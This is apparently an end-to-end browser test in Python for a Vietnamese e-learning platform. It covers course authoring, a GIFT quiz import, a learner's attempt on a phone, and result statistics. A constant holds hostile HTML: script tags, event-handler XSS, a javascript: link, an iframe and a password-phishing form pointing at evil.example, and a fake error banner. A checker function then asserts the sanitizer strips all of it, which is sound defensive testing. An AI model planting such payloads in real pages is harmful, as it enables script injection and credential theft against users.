"""A lecturer, at a desktop: creates a course with a lesson (pasting hostile HTML, which must come out
clean), imports a GIFT question bank, makes a quiz of it, adds the quiz to the course and publishes it;
an official takes the quiz on a phone; the lecturer reads the learner's result and the item statistics."""
from __future__ import annotations

import re

import pytest

from tests.journeys.helpers import (
    DESKTOP,
    PHONE,
    answer_by_tapping,
    answer_key,
    attempt_id_of,
    follow_menu,
    questions_on_page,
)

pytestmark = [pytest.mark.browser, pytest.mark.slow]

LECTURER = "giangvien@sonha.example.vn"
LEARNER = ("CB00010", )
COURSE = "An toàn thông tin cho cán bộ cấp xã (thử nghiệm)"
SECTION = "Bài học"
LESSON = "Bài 1. Mật khẩu và thư lừa đảo"
QUIZ = "Kiểm tra an toàn thông tin"
BANK = ("Ngân hàng: An toàn thông tin", "an-toan-thong-tin-thu")
HOSTILE = """<h2>Mật khẩu mạnh</h2>
<p onclick="alert('onclick')" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">Dùng mật
khẩu dài <strong>ít nhất 12 ký tự</strong> và không dùng lại ở nơi khác.</p>
<script>alert('script')</script>
<img src="/no-such-image.png" onerror="alert('onerror')" alt="Sơ đồ thư lừa đảo">
<p><a href="javascript:alert('link')">Bấm vào đây để nhận thưởng</a></p>
<iframe src="https://evil.example/"></iframe>
<style>body { display: none }</style>
<form action="https://evil.example/steal"><input name="password" aria-label="mật khẩu"><button>Gửi</button></form>
<svg onload="alert('svg')"><circle r="5"></circle></svg>
<div class="flash flash-error" id="main">Tài khoản của bạn đã bị khóa!</div>
<ul><li>Kiểm tra địa chỉ người gửi.</li><li>Không mở tệp đính kèm lạ.</li></ul>"""
GIFT = """$CATEGORY: An toàn thông tin

::Mật khẩu::Mật khẩu nên dài ít nhất 12 ký tự.{TRUE}

::Thư lừa đảo::Khi nhận thư yêu cầu cung cấp mật khẩu, anh/chị nên làm gì?{
=Báo cho bộ phận công nghệ thông tin và xóa thư
~Trả lời thư kèm mật khẩu
~Chuyển tiếp thư cho đồng nghiệp
}

::Xác thực hai lớp::Những cách nào là xác thực hai lớp?{
~%50%Mã gửi qua ứng dụng xác thực
~%50%Khóa bảo mật phần cứng
~%-100%Hỏi lại mật khẩu lần thứ hai
}
"""


def test_a_lecturer_builds_and_publishes_a_course_then_reads_the_results(actor, server, tmp_path):
    from playwright.sync_api import expect
    me = actor(LECTURER, viewport=DESKTOP)
    page = me.page

    # A new course, a section, and a lesson pasted as HTML.
    page.get_by_role("link", name="Soạn bài giảng").first.click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Soạn bài giảng")
    me.shot("authoring", "the lecturer's courses")
    page.get_by_role("link", name="Khóa học mới").click()
    page.get_by_label("Tiêu đề (tiếng Việt)").fill(COURSE)
    page.get_by_label("Tóm tắt (tiếng Việt)").fill("Nhận biết thư lừa đảo, đặt mật khẩu mạnh, bật xác thực hai lớp.")
    page.get_by_label("Nội dung bồi dưỡng").select_option(label="Khoa học, công nghệ, đổi mới sáng tạo và kỹ năng số")
    page.get_by_label("An toàn thông tin").check()
    page.get_by_label("Số tiết được công nhận (1 tiết = 45 phút)").fill("4")
    page.get_by_label("Cấp", exact=True).select_option(label="Cấp xã")
    page.get_by_label("Cán bộ, công chức được tự ghi danh").check()
    me.check("the new course form")
    page.get_by_role("button", name="Tạo khóa học").click()
    expect(page.get_by_role("heading", level=1)).to_have_text(COURSE)
    editor = page.url

    page.locator("form[action$='/sections']").get_by_label("Tên phần (tiếng Việt)").fill(SECTION)
    page.get_by_role("button", name="Thêm phần này").click()
    expect(page.get_by_role("heading", level=3, name=re.compile(SECTION))).to_be_visible()
    adding = page.locator("form[action$='/activities']")
    adding.get_by_label("Loại").select_option(label="Trang bài học")
    adding.get_by_label("Tiêu đề (tiếng Việt)").fill(LESSON)
    adding.get_by_role("button", name="Thêm và soạn").click()
    expect(page.get_by_role("heading", level=1)).to_contain_text(LESSON)
    page.get_by_label("HTML", exact=True).check()
    body = page.get_by_label("Bài học (tiếng Việt)")
    body.fill("")
    body.focus()
    page.keyboard.insert_text(HOSTILE)  # what a paste puts into the field
    preview = page.locator("#preview")
    expect(preview.get_by_role("heading", name="Mật khẩu mạnh")).to_be_visible()
    _assert_clean(preview)
    me.shot("lesson-editor", "the lesson editor with its preview")
    page.get_by_role("button", name="Lưu", exact=True).click()
    expect(page.locator(".flash-success")).to_be_visible()

    # A question bank imported from a GIFT file, and a quiz made of it.
    page.get_by_role("link", name="Ngân hàng câu hỏi").first.click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Ngân hàng câu hỏi")
    creating = page.locator("form").filter(has=page.get_by_role("button", name="Tạo ngân hàng"))
    creating.get_by_label("Tiêu đề").fill(BANK[0])
    creating.get_by_label("Mã khóa (chữ, số, dấu gạch ngang)").fill(BANK[1])
    creating.get_by_role("button", name="Tạo ngân hàng").click()
    expect(page.get_by_role("heading", level=1)).to_contain_text(BANK[0])
    gift = tmp_path / "an-toan-thong-tin.gift"
    gift.write_text(GIFT, encoding="utf-8")
    page.get_by_label("Tệp câu hỏi").set_input_files(gift)
    page.get_by_label("Định dạng").select_option(label="GIFT")
    page.get_by_role("button", name="Nhập", exact=True).click()
    report = page.locator("main")
    for name in ("Mật khẩu", "Thư lừa đảo", "Xác thực hai lớp"):
        expect(report).to_contain_text(name)
    me.shot("gift-import", "the GIFT import report")
    page.goto(_bank_url(page, server))
    page.get_by_role("link", name="Bài kiểm tra mới").click()
    page.get_by_label("Tiêu đề (tiếng Việt)").fill(QUIZ)
    page.get_by_label("Số câu mỗi trang (0: tất cả trên một trang)").fill("0")
    page.get_by_label("Đáp án đúng").first.check()
    page.get_by_role("button", name="Lưu thiết lập").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Câu hỏi của bài kiểm tra")
    picking = page.locator("form").filter(has=page.get_by_role("button", name="Thêm các câu đã đánh dấu"))
    for name in ("Mật khẩu", "Thư lừa đảo", "Xác thực hai lớp"):
        picking.get_by_label(name, exact=True).check()
    picking.get_by_role("button", name="Thêm các câu đã đánh dấu").click()
    expect(page.locator("main table caption")).to_contain_text("3 vị trí")
    me.check("the quiz's questions")
    quiz_url = page.locator("main").get_by_role("link", name=re.compile(QUIZ)).first.get_attribute("href")

    # The quiz in the course, then publish.
    page.goto(editor)
    adding = page.locator("form[action$='/activities']")
    adding.get_by_label("Phần").select_option(label=SECTION)
    adding.get_by_label("Loại").select_option(label="Bài kiểm tra")
    adding.get_by_label("Tiêu đề (tiếng Việt)").fill(QUIZ)
    adding.get_by_role("button", name="Thêm và soạn").click()
    page.get_by_label("Mục").select_option(label=QUIZ)
    page.get_by_role("button", name="Lưu", exact=True).click()
    expect(page.locator(".flash-success")).to_be_visible()
    page.goto(editor)
    page.get_by_role("button", name="Xuất bản", exact=True).click()
    expect(page.locator("main")).to_contain_text("Đã xuất bản")
    me.shot("course-editor", "the course editor")

    # An official finds it, reads the cleaned lesson and takes the quiz on a phone (one answer wrong).
    learner = actor(LEARNER[0], viewport=PHONE)
    phone = learner.page
    follow_menu(phone, "Danh mục khóa học")
    phone.get_by_role("searchbox", name="Tìm khóa học").fill("an toàn thông tin")
    phone.get_by_role("button", name="Tìm kiếm").click()
    phone.locator("main").get_by_role("link", name=COURSE).click()
    phone.get_by_role("button", name="Ghi danh vào khóa học này").click()
    expect(phone.get_by_role("heading", level=1)).to_have_text(LESSON)
    lesson = phone.locator(".lesson-body")
    expect(lesson.get_by_role("heading", name="Mật khẩu mạnh")).to_be_visible()
    expect(lesson.locator("strong")).to_have_text("ít nhất 12 ký tự")
    _assert_clean(lesson)
    expect(phone.locator(".flash-error")).to_have_count(0)
    learner.check("the cleaned lesson")
    assert learner.dialogs == [] and me.dialogs == [], learner.dialogs + me.dialogs
    phone.locator("a[rel=next]").click()
    phone.get_by_role("link", name="Bắt đầu").click()
    phone.get_by_role("button", name="Bắt đầu làm bài").click()
    expect(phone.locator("fieldset.question")).to_have_count(3)
    key = answer_key(server, attempt_id_of(phone))
    wrong = None
    for question in questions_on_page(phone):
        if key[question][0] == "true_false":
            wrong = question
            phone.locator(f"#q{question} input[value=false]").check()  # the one it gets wrong
        else:
            answer_by_tapping(phone, key, question)
        expect(phone.locator(f"#q{question} [data-save-state]")).to_have_text("Đã lưu")
    assert wrong is not None
    phone.get_by_role("button", name="Kết thúc bài làm…").click()
    phone.get_by_role("button", name="Nộp bài và kết thúc").click()
    expect(phone).to_have_url(re.compile(r"/review$"))
    expect(phone.locator("main")).to_contain_text("66,7")
    learner.check("the learner's review")

    # The lecturer: the learner's result, then the item statistics.
    page.goto(server.url + quiz_url)
    page.get_by_role("link", name="Kết quả và thống kê").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Kết quả")
    row = page.locator("main tr").filter(has_text=LEARNER[0])
    expect(row).to_contain_text("66,7")
    stats = page.locator("main table").filter(has_text="Độ dễ")
    for name in ("Mật khẩu", "Thư lừa đảo", "Xác thực hai lớp"):
        expect(stats.locator("tr").filter(has_text=name)).to_have_count(1)
    me.shot("quiz-results", "the quiz results and item statistics")
    row.get_by_role("link", name=re.compile("Lượt 1")).click()
    expect(page.locator("main")).to_contain_text("Mật khẩu nên dài ít nhất 12 ký tự")
    me.check("the learner's attempt, as the lecturer sees it")


def _bank_url(page, server) -> str:
    link = page.locator("main").get_by_role("link", name=re.compile(re.escape(BANK[0]))).first
    href = link.get_attribute("href") if link.count() else None
    if href:
        return server.url + href
    found = re.search(r"/quizzes/banks/\d+", page.url)
    assert found, page.url
    return server.url + found.group(0)


def _assert_clean(region) -> None:
    """Nothing of the hostile paste that could run, cover the page, post a form or fake the app's own UI."""
    bad = region.evaluate("""root => {
        const found = [];
        for (const el of root.querySelectorAll('*')) {
            const tag = el.tagName.toLowerCase();
            if (['script', 'style', 'iframe', 'form', 'input', 'svg', 'object', 'embed'].includes(tag)) found.push(tag);
            for (const attr of el.attributes) {
                const name = attr.name.toLowerCase();
                if (name.startsWith('on') || name === 'style' || name === 'id' || name === 'class') \
found.push(tag + '@' + name);
                if (/^\\s*(javascript|data):/i.test(attr.value)) found.push(tag + '@' + name + '=' + attr.value);
            }
        }
        return found;
    }""")
    assert bad == [], f"the lesson kept hostile markup: {bad}"
